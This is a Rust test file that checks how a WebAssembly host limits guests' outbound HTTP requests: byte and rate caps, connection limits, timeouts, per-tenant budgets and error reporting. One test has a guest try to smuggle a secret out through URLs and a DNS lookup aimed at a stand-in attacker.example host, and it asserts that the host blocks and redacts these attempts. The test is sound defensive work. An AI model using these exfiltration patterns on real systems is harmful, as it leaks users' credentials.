//! Requests that are granted, and their limits.

use std::time::Instant;

use rustix::process::Signal;
use tests::{Elsewhere, Host, Request, eventually, guest};

use super::{grant, kinds, serving, target, tries};

fn one(server: &Elsewhere, app: &'static str, limits: &[&str]) -> Host {
    let wasm = kinds().into_iter().find(|(name, _)| *name == app).expect("it is a kind");
    serving(server, &[wasm], |host| limits.iter().fold(host, |host, limit| host.limit(limit)))
}

#[test]
fn guests_of_every_kind_send_requests_and_read_what_comes_back() {
    let server = Elsewhere::http();
    let host = serving(&server, &kinds(), |host| host);
    for (app, _) in kinds() {
        assert_eq!(tries(&host, app, &format!("get,{}", server.url("/hello"))), "200 hello from elsewhere", "{app}");
        assert_eq!(tries(&host, app, &format!("get,{}", server.url("/missing"))), "404 nothing here", "{app}");
        assert_eq!(tries(&host, app, &format!("send,{},100000", server.url("/count"))), "200 100000", "{app}");
        let large = tries(&host, app, &format!("read,{}", server.url("/big?3000")));
        assert_eq!(large, "3072000 bytes, then Ok(())", "{app}");
    }
    server.until_alone();
}

#[test]
fn the_sdk_fetches() {
    let server = Elsewhere::http();
    let host = one(&server, "wsgi", &[]);
    let fetch = |words: String| host.get(&format!("/wsgi?fetch={words}")).text();
    assert_eq!(fetch(format!("GET,{}", server.url("/hello"))), "200 text/plain hello from elsewhere");
    assert_eq!(fetch(format!("POST,{},a-body", server.url("/echo"))), "200 text/plain a-body");
    let head = fetch(format!("POST,{},a-body", server.url("/head")));
    assert!(head.contains("x-given: by the guest\r\n") && head.contains("content-length: 6\r\n"), "{head}");
    for (url, kind) in [
        ("http://127.0.0.1:1/", "Denied: the host denies the request"),
        ("no-url", "BadRequest: "),
        (&*server.url("/garbage"), "Protocol: "),
        (&*server.url("/short"), "Protocol: "),
    ] {
        let said = fetch(format!("GET,{url}"));
        assert!(said.starts_with(kind), "{url}: {said}");
    }
}

#[test]
fn the_server_is_told_its_own_name_and_no_other() {
    let server = Elsewhere::http();
    let host = one(&server, "p2", &[]);
    let own = format!("\r\nhost: 127.0.0.1:{}", server.port());
    for words in [format!("get,{}", server.url("/head")), format!("pose,{},other.example", server.url("/head"))] {
        let head = tries(&host, "p2", &words);
        assert!(head.starts_with("200 GET /head HTTP/1.1\r\n"), "{head}");
        assert!(head.contains(&own) && head.to_ascii_lowercase().matches("host:").count() == 1, "{head}");
        assert!(!head.contains("other.example"), "{head}");
    }
}

#[test]
fn redirects_are_the_guests_own_affair() {
    let server = Elsewhere::http();
    let host = one(&server, "p2", &[]);
    assert_eq!(tries(&host, "p2", &format!("get,{}", server.url("/redirect"))), "302");
    assert_eq!(server.connected(), 1);
}

#[test]
fn what_a_server_does_wrong_is_an_error_for_the_guest_and_no_line_of_the_host() {
    let server = Elsewhere::http();
    let host = serving(&server, &kinds(), |host| host);
    // On some machines it complains at its start of how few descriptors it may have.
    let complaints = || host.log().all(|event| event.text("level") == "WARN");
    let before = complaints().len();
    for (app, _) in kinds() {
        for (path, code) in [
            ("/garbage", "HttpProtocolError"),
            ("/short", "HttpResponseIncomplete"),
            ("/large-head", "HttpProtocolError"),
        ] {
            let said = tries(&host, app, &format!("get,{}", server.url(path)));
            assert!(said.starts_with("error ErrorCode::") && said.contains(code), "{app} {path}: {said}");
        }
    }
    let since: Vec<_> = complaints().drain(before..).map(|event| event.message().to_owned()).collect();
    assert!(since.is_empty(), "{since:?}");
}

#[test]
fn bytes_are_counted_in_both_directions_and_over_all_requests_of_a_call() {
    let server = Elsewhere::http();
    let limits = ["outbound_sent_size=64KiB", "outbound_received_size=64KiB"];
    let host = serving(&server, &kinds(), |host| limits.iter().fold(host, |host, limit| host.limit(limit)));
    for (app, _) in kinds() {
        assert_eq!(tries(&host, app, &format!("send,{},60000", server.url("/count"))), "200 60000", "{app}");
        let said = tries(&host, app, &format!("send,{},70000", server.url("/count")));
        assert!(said.starts_with("error ErrorCode::HttpRequestBodySize"), "{app}: {said}");
        host.log_contains("ended an outgoing request (POST http://127.0.0.1:");
        let said = tries(&host, app, &format!("read,{}", server.url("/big?100")));
        assert!(said.contains("HttpResponseBodySize"), "{app}: {said}");
        host.log_contains("the call gets more than limits.outbound_received_size");
        // Each call has its own.
        assert_eq!(tries(&host, app, &format!("get,{}", server.url("/hello"))), "200 hello from elsewhere", "{app}");
    }
    server.until_alone();
}

#[test]
fn all_that_goes_over_a_connection_is_counted_whatever_it_is_part_of() {
    let server = Elsewhere::http();
    let limits = ["outbound_sent_size=16KiB", "outbound_received_size=16KiB", "response_header_size=64KiB"];
    let host = serving(&server, &kinds(), |host| limits.iter().fold(host, |host, limit| host.limit(limit)));
    for (app, _) in kinds() {
        assert_eq!(
            tries(&host, app, &format!("fields,{},8", server.url("/hello"))),
            "200 hello from elsewhere",
            "{app}"
        );
        let before = server.asked().len();
        let said = tries(&host, app, &format!("fields,{},32", server.url("/hello")));
        assert_eq!(said, "error ErrorCode::HttpRequestBodySize(Some(16384))", "{app}");
        assert_eq!(server.asked().len(), before, "{app}: no whole head has arrived");
        assert_eq!(tries(&host, app, &format!("get,{}", server.url("/wide-head?8"))), "200", "{app}");
        for path in ["/wide-head?32", "/interim"] {
            let said = tries(&host, app, &format!("get,{}", server.url(path)));
            assert_eq!(said, "error ErrorCode::HttpResponseBodySize(Some(16384))", "{app} {path}");
        }
        host.log_contains("the call sends more than limits.outbound_sent_size = 16384");
        host.log_contains("the call gets more than limits.outbound_received_size = 16384");
    }
    server.until_alone();
}

#[test]
fn heads_go_no_faster_than_the_rate_either() {
    let server = Elsewhere::http();
    let budget = format!("{}[budget]\noutbound_rate = '1KiB'\n", grant(&[server.url("")]));
    let host = serving(&server, &kinds(), |host| host.config(&budget).limit("outbound_time=300ms"));
    assert_eq!(
        tries(&host, "p2", &format!("fields,{},8", server.url("/hello"))),
        "error ErrorCode::HttpResponseTimeout"
    );
    assert_eq!(tries(&host, "wsgi", &format!("get,{}", server.url("/hello"))), "error ErrorCode::HttpResponseTimeout");
    server.until_alone();
}

#[test]
fn a_call_has_what_it_may_send_in_an_instance_that_is_never_without_calls() {
    let server = Elsewhere::http();
    let destinations = [server.url("")];
    let host = Host::start(|host| {
        let sidecar = format!("{}instances = 'reuse'\n", super::ask(&destinations));
        let host = host.config(&grant(&destinations)).limit("outbound_sent_size=64KiB");
        host.app("p3", guest("http-p3")).sidecar("p3", &sidecar)
    });
    let mut holding = host.connect();
    holding.send(&Request::get(&target("p3", &format!("read,{}", server.url("/begin")))).to_bytes());
    host.log_contains("the response has begun");
    for _ in 0..5 {
        assert_eq!(tries(&host, "p3", &format!("send,{},60000", server.url("/count"))), "200 60000");
    }
    // It may use what the other one does not, and what others before it did not have is gone.
    let said = tries(&host, "p3", &format!("send,{},140000", server.url("/count")));
    assert!(said.starts_with("error ErrorCode::HttpRequestBodySize"), "{said}");
    drop(holding);
    server.until_alone();
}

#[test]
fn no_secret_of_an_app_is_in_what_the_host_says_of_its_requests() {
    let server = Elsewhere::http();
    let port = server.port();
    let destinations = [server.url("")];
    let host = Host::start(|host| {
        std::fs::write(host.folder().join("hush"), "hush-hush-4711").expect("the folder is ours");
        let config = format!("{}[grant.secrets]\nHUSH = {{ file = 'hush' }}\n", grant(&destinations));
        let host = host.config(&config).limit("outbound_time=300ms");
        let sidecar = format!("{}secrets = ['HUSH']\n", super::ask(&destinations));
        kinds().into_iter().fold(host, |host, (name, wasm)| host.app(name, wasm).sidecar(name, &sidecar))
    });
    let secret = "hush-hush-4711";
    for (app, _) in kinds() {
        for url in [
            server.url(&format!("/{secret}/silent")),
            server.url("/aHVzaC1odXNoLTQ3MTE/silent"),
            format!("http://user:{secret}@127.0.0.1:{port}/"),
            format!("http://{secret}.attacker.example/"),
            format!("http://127.0.0.1:1/{secret}"),
        ] {
            let said = tries(&host, app, &format!("get,{url}"));
            assert!(said.starts_with("error ErrorCode::"), "{app} {url}: {said}");
        }
        tries(&host, app, &format!("look-up,{secret}.attacker.example"));
        host.log_contains(&format!(
            "ended an outgoing request (GET http://127.0.0.1:{port}): more than limits.outbound_time"
        ));
        host.log_contains(&format!("refused an outgoing request (GET http://127.0.0.1:{port}): its target is not"));
        host.log_contains("(GET http://(the secret HUSH).attacker.example)");
    }
    let is_told = |event: &tests::Event| event.message().contains("hush-hush") || event.message().contains("aHVzaC");
    assert_eq!(host.log().all(is_told).iter().map(|event| event.message().to_owned()).collect::<Vec<_>>(), [""; 0]);
}

fn sorted(words: &str) -> String {
    let mut words: Vec<&str> = words.split(' ').collect();
    words.sort_unstable();
    words.join(" ")
}

#[test]
fn connections_at_a_time_are_bounded_over_all_calls_and_given_back() {
    let server = Elsewhere::http();
    let host = one(&server, "p2", &["outbound_connections=3"]);
    let said = tries(&host, "p2", &format!("many,{},5", server.url("/begin")));
    let refused = "ErrorCode::ConnectionLimitReached";
    assert_eq!(sorted(&said), format!("200 200 200 {refused} {refused}"), "whoever comes first");
    host.log_contains("the app has limits.outbound_connections = 3 already");
    server.until_alone();
    // Held by a call that is still under way.
    let mut holding = host.connect();
    holding.send(&Request::get(&target("p2", &format!("read,{}", server.url("/begin")))).to_bytes());
    host.log_contains("the response has begun");
    let said = tries(&host, "p2", &format!("many,{},3", server.url("/begin")));
    assert_eq!(sorted(&said), format!("200 200 {refused}"));
    drop(holding);
    server.until_alone();
    assert_eq!(tries(&host, "p2", &format!("many,{},3", server.url("/begin"))), "200 200 200");
}

#[test]
fn a_tenants_connections_are_bounded_over_all_its_apps() {
    let server = Elsewhere::http();
    let budget = format!("{}[budget]\noutbound_connections = 3\n", grant(&[server.url("")]));
    let apps = [("p2", guest("http-p2")), ("p3", guest("http-p3"))];
    let host = serving(&server, &apps, |host| host.config(&budget));
    let said = tries(&host, "p2", &format!("many,{},5", server.url("/begin")));
    let refused = "ErrorCode::ConnectionLimitReached";
    assert_eq!(sorted(&said), format!("200 200 200 {refused} {refused}"));
    host.log_contains("its tenant has budget.outbound_connections = 3 already");
    server.until_alone();
    // Held by another app.
    let mut holding = host.connect();
    holding.send(&Request::get(&target("p3", &format!("read,{}", server.url("/begin")))).to_bytes());
    host.log_contains("the response has begun");
    let said = tries(&host, "p2", &format!("many,{},3", server.url("/begin")));
    assert_eq!(sorted(&said), format!("200 200 {refused}"));
    drop(holding);
    server.until_alone();
}

#[test]
fn connections_that_are_open_count_when_the_budget_changes() {
    let server = Elsewhere::http();
    let budget = |connections| format!("{}[budget]\noutbound_connections = {connections}\n", grant(&[server.url("")]));
    let host = serving(&server, &[("p2", guest("http-p2"))], |host| host.config(&budget(3)));
    let mut holding = host.connect();
    holding.send(&Request::get(&target("p2", &format!("read,{}", server.url("/begin")))).to_bytes());
    host.log_contains("the response has begun");
    host.write_config(&budget(2));
    host.signal(Signal::HUP);
    let refused = "ErrorCode::ConnectionLimitReached";
    let left = format!("200 {refused} {refused}");
    let many = format!("many,{},3", server.url("/begin"));
    eventually("one is left", || (sorted(&tries(&host, "p2", &many)) == left).then_some(()));
    drop(holding);
    server.until_alone();
}

#[test]
fn what_a_tenant_moves_goes_no_faster_than_its_rate() {
    let server = Elsewhere::http();
    let budget = format!("{}[budget]\noutbound_rate = '1KiB'\n", grant(&[server.url("")]));
    let host = serving(&server, &kinds(), |host| host.config(&budget).limit("outbound_time=300ms"));
    assert_eq!(tries(&host, "p2", &format!("get,{}", server.url("/hello"))), "200 hello from elsewhere");
    // A minute and a half at this rate, for all apps of the tenant.
    for (app, _) in kinds() {
        let said = tries(&host, app, &format!("read,{}", server.url("/big?100")));
        assert!(said.contains("HttpResponseTimeout"), "{app}: {said}");
    }
    server.until_alone();
}

#[test]
fn a_request_has_its_time_whether_or_not_the_response_has_begun() {
    let server = Elsewhere::http();
    let host = serving(&server, &kinds(), |host| host.limit("outbound_time=300ms"));
    for (app, _) in kinds() {
        let began = Instant::now();
        let said = tries(&host, app, &format!("get,{}", server.url("/silent")));
        assert_eq!(said, "error ErrorCode::HttpResponseTimeout", "{app}");
        let said = tries(&host, app, &format!("read,{}", server.url("/begin")));
        assert!(said.starts_with("7 bytes, then Err(") && said.contains("HttpResponseTimeout"), "{app}: {said}");
        assert!(began.elapsed() < tests::PATIENCE);
    }
    host.log_contains("more than limits.outbound_time = 300ms");
    server.until_alone();
}

#[test]
fn a_call_that_is_given_up_takes_its_requests_along() {
    let server = Elsewhere::http();
    let host = one(&server, "p2", &["first_byte_time=500ms"]);
    let response = host.get(&target("p2", &format!("get,{}", server.url("/silent"))));
    assert_eq!(response.status(), 504);
    server.until_alone();
    let mut client = host.connect();
    client.send(&Request::get(&target("p2", &format!("read,{}", server.url("/begin")))).to_bytes());
    host.log_contains("the response has begun");
    drop(client);
    server.until_alone();
}

#[test]
fn large_bodies_pass_through_a_small_host() {
    let server = Elsewhere::http();
    let host = one(&server, "p2", &["outbound_received_size=1GiB", "outbound_sent_size=1GiB", "cpu_time=1m"]);
    tries(&host, "p2", &format!("get,{}", server.url("/hello")));
    let before = host.resident_bytes();
    assert_eq!(tries(&host, "p2", &format!("read,{}", server.url("/big?65536"))), "67108864 bytes, then Ok(())");
    let grown = host.resident_bytes().saturating_sub(before);
    assert!(grown < 32 << 20, "{grown} bytes more");
}

#[test]
fn what_is_granted_to_the_example_of_wstd_it_passes_on() {
    let server = Elsewhere::http();
    let destinations = [server.url("")];
    let host = Host::start(|host| {
        let sidecar = format!("{}[env]\nTARGET_URL = '{}/'\n", super::ask(&destinations), server.url(""));
        host.config(&super::grant(&destinations)).app("index", guest("http-wstd-proxy")).sidecar("index", &sidecar)
    });
    let response = host.get("/proxy/hello");
    assert_eq!((response.status(), response.text().as_str()), (200, "hello from elsewhere"));
}
